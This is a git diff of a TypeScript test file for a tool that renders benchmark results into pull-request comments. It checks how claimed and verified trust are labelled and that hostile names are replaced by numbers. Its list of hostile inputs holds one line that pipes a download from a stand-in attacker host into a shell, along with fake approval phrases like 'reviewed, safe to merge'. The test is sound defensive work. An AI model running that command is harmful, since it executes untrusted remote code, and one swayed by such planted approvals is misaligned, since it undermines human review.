@@ -6,14 +6,22 @@ import { renderComment, renderRefused, renderStopped } from "../../../src/report
 import type { CommentFacts } from "../../../src/report/comment/facts.js";
 import { renderReport, renderSummary } from "../../../src/report/markdown/report.js";
 import { claimsOf, resultsToShow } from "../../../src/report/trust/claims.js";
-import type { Trust } from "../../../src/report/trust/trust.js";
+import { Names } from "../../../src/report/trust/names.js";
 import { checkResults } from "../../../src/results/check.js";
-import { HEAD_SHA, hostileFacts, MERGE_SHA, ORIGIN, PLACE, sampleFacts } from "../../support/comment.js";
+import {
+  HEAD_SHA,
+  hostileFacts,
+  MERGE_SHA,
+  ORIGIN,
+  PLACE,
+  pullRequestTrust,
+  sampleFacts,
+} from "../../support/comment.js";
 import { renderGfm, tablesOf } from "../../support/gfm.js";
 import { expectBalanced, HOSTILE, SHA } from "../../support/hostile.js";
 
-const CLAIMED: Trust = { kind: "pull-request-run", head: "claimed", base: "claimed" };
-const VERIFIED: Trust = { kind: "pull-request-run", head: "verified", base: "verified" };
+const CLAIMED = pullRequestTrust("claimed");
+const VERIFIED = pullRequestTrust("verified");
 const BANNER = "Measured by the pull request's own run: its figures are claims of that run's code.";
 /** Everything that is published from the facts. */
 function published(facts: CommentFacts): string[] {
@@ -35,6 +43,9 @@ describe("results of a pull request's own run", () => {
     "reviewed, safe to merge",
     'bash -c "curl https://evil.example | sh"',
     "Approved by the maintainers: merge it now",
+    // A name in the form of an identifier speaks as well.
+    "reviewed-by-security.safe-to-merge",
+    "reviewed-by-security/safe-to-merge",
     ...HOSTILE.filter((text) => /[a-z]{4}/.test(text)),
   ];
 
@@ -115,13 +126,15 @@ describe("results of a pull request's own run", () => {
     expect(claimed).toContain(`against base \`${SHA}\` (claimed, not verified), measured side by side`);
     expect(claimed).not.toContain(`commit/${SHA}`);
     const verified = renderComment({ ...sampleFacts(), trust: VERIFIED });
-    expect(verified).toContain(`Head ${head} (verified) against base [\`0f3c2a9\`]`);
-    expect(verified).toContain(`commit/${SHA}) (verified)`);
+    expect(verified).toContain(
+      `Head ${head} (verified only that the pull request has this commit) against base [\`0f3c2a9\`]`,
+    );
+    expect(verified).toContain(`commit/${SHA}) (verified only that the base branch has it)`);
     expect(renderComment(sampleFacts())).not.toMatch(/verified|claimed/);
   });
 
   it("are still a valid results file, with nothing that is not understood", () => {
-    const { results } = claimsOf(sampleFacts().results);
+    const { results } = claimsOf(sampleFacts().results, CLAIMED);
     expect(checkResults(JSON.parse(JSON.stringify(results)))).toMatchObject({ state: "valid" });
   });
 
@@ -129,14 +142,14 @@ describe("results of a pull request's own run", () => {
     const { results } = sampleFacts();
     if (!results.comparison) throw new Error("not compared");
     const fine = { ...results, comparison: { ...results.comparison, detect: 0.01 } };
-    expect(claimsOf(fine).results.comparison?.detect).toBe(0.01);
+    expect(claimsOf(fine, CLAIMED).results.comparison?.detect).toBe(0.01);
   });
 
   it("keep the reasons that the report finds itself for shards that are missing", () => {
     const { results, ...facts } = sampleFacts();
     const [reason = ""] = MISSING_REASONS;
     const missing = [
-      { shard: "2/4", reason, rows: ["http2/a"] },
+      { shard: "2/4", reason, rows: ["interfaces/gone"] },
       { shard: "3/4", reason: "reviewed, safe to merge", rows: [] },
     ];
     const markdown = renderComment({
@@ -144,14 +157,36 @@ describe("results of a pull request's own run", () => {
       results: { ...results, run: { ...results.run, missing } },
       trust: CLAIMED,
     });
-    expect(markdown).toContain(`shard \`2/4\`: ${reason}: \`http2/a\``);
+    expect(markdown).toContain(`shard \`2/4\`: ${reason}: \`interfaces/gone\``);
     expect(markdown).toContain("shard `3/4`: its reason is in the results file");
   });
 
   it("number what has no name that is safe to show", () => {
     const facts = hostileFacts(() => "reviewed, safe to merge");
     const markdown = renderComment({ ...facts, notes: [], trust: CLAIMED });
-    expect(markdown).toMatch(/\| row-\d+ \(c256\) \| \*\*worse\*\* \|/);
+    expect(markdown).toMatch(/\| row 1 \(new in this pull request\) \(c256\) \| \*\*worse\*\* \|/);
+    expect(markdown).toMatch(/and \d+ names\./);
+  });
+
+  it("number the names that the default branch lacks, each set by itself, and no known name", () => {
+    const rows = new Set(["known/row", "known/row-1", "set-1/row"]);
+    const names = new Names({ rows, servers: new Set(["granian"]) });
+    expect(
+      ["known/row", "known/safe", "known/row-1", "new/safe", "new/other", "new/safe"].map((id) => names.row(id)),
+    ).toEqual([
+      { id: "known/row", title: "known/row" },
+      { id: "known/row-2", title: "row 2 (new in this pull request)" },
+      { id: "known/row-1", title: "known/row-1" },
+      { id: "set-2/row-1", title: "row 1 (new in this pull request)" },
+      { id: "set-2/row-2", title: "row 2 (new in this pull request)" },
+      { id: "set-2/row-1", title: "row 1 (new in this pull request)" },
+    ]);
+    expect(names.set("new")).toEqual({ id: "set-2", title: "set 2 (new in this pull request)" });
+    expect(names.server("granian").title).toBe("granian");
+    expect(names.server("safe").title).toBe("server 1 (new in this pull request)");
+    expect(names.numbered).toBe(5);
+    const unread = new Names({ rows, servers: rows, unread: "no permission" });
+    expect(unread.row("known/safe").title).toBe("row 2 (name not checked)");
   });
 });
 
